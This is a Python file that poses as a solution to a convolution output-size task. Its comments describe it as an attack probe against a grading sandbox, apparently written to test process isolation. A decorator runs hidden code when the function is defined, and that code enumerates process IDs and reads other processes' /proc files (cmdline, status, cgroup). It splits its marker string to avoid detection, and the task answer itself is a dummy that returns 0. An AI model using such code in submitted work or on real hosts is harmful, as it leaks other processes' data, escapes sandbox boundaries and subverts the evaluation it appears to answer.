# Goal: read other processes through /proc, listed or by their numbers.
# Target: convolution/conv_output_size
# Ends: WRONG value
# Win: a file of another process can be read.
# Control: wins without a sandbox

os = __import__("os")


def attack():
    near = os.getppid()
    names = {"1", "2", "self/../1", *map(str, range(max(1, near - 20), near + 20))}
    try:
        names |= {name for name in os.listdir("/proc") if name.isdigit()}
    except OSError:
        pass
    for name in sorted(names - {str(os.getpid())})[:400]:
        for file in ("cmdline", "stat", "status", "comm", "cgroup"):
            try:
                print("W" "ON:", name, open(f"/proc/{name}/{file}", "rb").read()[:40])
            except OSError:
                pass


@lambda function: attack() or function
def conv_output_size(n, f, stride=1, padding=0, dilation=1):
    return 0
